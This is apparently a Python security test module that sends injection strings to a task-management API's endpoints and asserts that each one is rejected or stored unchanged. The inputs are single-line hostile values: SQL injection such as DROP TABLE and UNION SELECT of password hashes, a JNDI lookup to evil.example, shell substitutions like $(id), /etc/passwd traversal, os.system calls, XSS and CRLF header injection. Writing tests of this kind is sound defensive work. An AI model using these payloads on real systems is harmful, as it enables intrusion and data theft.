"""Texts that are code somewhere else: kept as they are, found as they are, and never carried out."""

import json
from typing import Any
from urllib.parse import quote

from tests.security.attack import NOBODY, Attack, Check

_TEXTS = (
    "'; DROP TABLE tasks; --",
    "' OR '1'='1",
    "' UNION SELECT hashed_password FROM users --",
    "$1; DELETE FROM tasks",
    "\\'; SELECT pg_sleep(10); --",
    "%' OR title LIKE '%",
    "%",
    "_",
    "%%%",
    "100% _done_ \\",
    "{0} {title} {}",
    "%s %n %x %(title)s",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "<%= 7*7 %>",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    '=HYPERLINK("http://evil.example")',
    "@SUM(1+1)",
    "\u202egnp.exe",
    "\u200b\u200b\u200b\ufeffx",
    "x\r\nSet-Cookie: a=b",
    'x\n{"level": "info"}',
    "\x1b[31mred\x1b[0m",
    "../../../etc/passwd",
    "file:///etc/passwd",
    "`id`",
    "$(id)",
    "| id",
    "data: x\n\nid: 1\n\n",
    '{"$where": "1"}',
    "#{7*7}",
    "__import__('os').system('id')",
)
_QUERIES = (
    ("/api/v1/tasks", "q={}", 200),
    ("/api/v1/tasks", "series={}", 200),
    ("/api/v1/tasks", "sort={}", 422),
    ("/api/v1/tasks", "priority={}", 422),
    ("/api/v1/tags", "limit={}", 422),
    ("/api/v1/tasks", "completed={}", 422),
    ("/api/v1/tasks", "limit={}", 422),
    ("/api/v1/tasks", "cursor={}", 422),
    ("/api/v1/tasks", "due={}", 422),
    ("/api/v1/tasks", "due_before={}", 422),
    ("/api/v1/audit/events", "correlation_id={}", 200),
    ("/api/v1/audit/events", "type={}", 422),
    ("/api/v1/audit/events", "from={}", 422),
    ("/api/v1/audit/events", "to={}", 422),
    ("/api/v1/audit/events", "about={}", 422),
    ("/api/v1/audit/events", "limit={}", 422),
    ("/api/v1/audit/events", "user={}", 403),
    ("/api/v1/audit/events", "cursor={}", 422),
    ("/api/v1/reminders", "status={}", 422),
    ("/api/v1/reminders", "cursor={}", 422),
    ("/api/v1/recurrence/preview", "pattern={}", 422),
    ("/api/v1/recurrence/preview", "pattern=daily&timezone={}", 422),
)
_IN_QUERIES = ("' OR 'a'='a", "%' OR id LIKE '%", "1; SELECT pg_sleep(10)", "${7*7}")


_PRINTABLE = tuple(text for text in _TEXTS if text.isprintable())
_NO_TAGS: tuple[Any, ...] = (
    *([text] for text in _TEXTS if not text.isprintable()), ["a\u0000b"], ["\u2066a\u2069"], ["\u200b"], [" "], ["#"],
    ["x" * 51], ["e\u0301" * 51], [f"t{n}" for n in range(21)], ["x"] * 101, ["x" * 100_000], [["x"]], {"a": "b"}, "x",
    [None],
)  # fmt: skip


def _is_tag(text: str) -> Check:
    return lambda answer, _: json.loads(answer.body)["tags"] == [text.lstrip("#")]


def _is_kept(text: str) -> Check:
    return lambda answer, _: json.loads(answer.body)["title"] == text.strip()


_EVENTS = (
    "about=", "about=Account", "about=accounts", "about=account%00", "about=account%20", "about=account,tasks",
    "about=%25",
    "about=account'--", "about[]=account", "type=", "type=%25", "type=task.%25", "type=account.",
    "type=audit.read%00", "from=", "to=", "from=now", "to=infinity", "to=9999-12-31T23:59:59-14:00",
    "from=0001-01-01T00:00:00%2B14:00", "correlation_id=", "correlation_id=%00", "correlation_id=" + "x" * 256, "user=",
    "user=%00", "user=" + "x" * 256, "limit=0", "limit=-1", "limit=201", "limit=1e3", "limit=" + "9" * 40, "cursor=x",
    "cursor=" + "A" * 5_000, "sealed=true", "checkpointed=true", "actor_id=root",
)  # fmt: skip
"""What no value of a parameter of the trail is, whoever asks."""


CASES: tuple[Attack, ...] = (
    *(Attack(name=f"events, {query:.40}", path="/api/v1/audit/events", query=query, status=422) for query in _EVENTS),
    *(
        Attack(
            name=f"a title {text!r}", method="POST", body={"title": text}, status=201, writes=True, check=_is_kept(text)
        )
        for text in _TEXTS
    ),
    *(
        Attack(
            name=f"a tag {text!r}",
            method="POST",
            body={"title": "x", "tags": [text]},
            status=201,
            writes=True,
            check=_is_tag(text),
        )
        for text in (*_PRINTABLE, "👩\u200d👧", "בית", "می\u200cخواهم", "İ", "ß")
    ),
    *(
        Attack(name=f"tags {number}", method="POST", body={"title": "x", "tags": tags}, status=422)
        for number, tags in enumerate(_NO_TAGS)
    ),
    *(
        Attack(name=f"a filter by tag {text!r:.20}", query=f"tag={quote(text)}", status=422)
        for text in ("", "a\u0000b", "\u202egnp", "x" * 51)
    ),
    *(Attack(name=f"a search for {text!r}", query=f"q={quote(text)}", status=200) for text in _TEXTS),
    *(
        Attack(name=f"{path}?{query} with {text!r}", path=path, query=query.format(quote(text)), status=status)
        for path, query, status in _QUERIES
        for text in _IN_QUERIES
    ),
    *(
        Attack(
            name=f"to sign in with {address!r}",
            method="POST",
            path="/api/v1/auth/login",
            by=NOBODY,
            body=body,
            status=401,
            code="INVALID_CREDENTIALS",
        )
        for address in ("' OR '1'='1' --", "<anna.email>'--", "%", "<anna.email>\u0000", "*", "admin", "")
        for body in ({"email": address, "password": "' OR '1'='1"},)
    ),
    *(
        Attack(
            name=f"to sign up as {address!r}",
            method="POST",
            path="/api/v1/auth/signup",
            by=NOBODY,
            body={"email": address, "password": "long enough"},
            status=400,
            code="SIGNUP_ERROR",
        )
        for address in (
            "<anna.email>",
            "x' OR 1=1 --@example.com",
            "a@b",
            "a@@example.com",
            "a@example.com\r\nBcc: b@example.com",
            "a@example.com\n",
            "<script>@example.com",
            "a b@example.com",
            "@example.com",
            "a@" + "x" * 300 + ".com",
            "ä@example.com",
            "a@example.com\u0000",
        )
    ),
    *(
        Attack(
            name=f"a time zone {zone!r}",
            method="PUT",
            path="/api/v1/me/preferences",
            body={"timezone": zone},
            status=422,
        )
        for zone in (
            "../../etc/passwd",
            "/etc/localtime",
            "Europe/../Berlin",
            "UTC\u0000",
            "'; DROP TABLE users; --",
            "x" * 65,
            "",
            "UTC0",
            "localtime",
        )
    ),
    *(
        Attack(
            name=f"notifications {value!r}",
            method="PUT",
            path="/api/v1/me/preferences",
            body={"timezone": "UTC", "notifications": value},
            status=422,
        )
        for value in ("everything", ["task.*"], [1], {"all": True}, "all; DROP TABLE users", [["task.created"]])
    ),
)
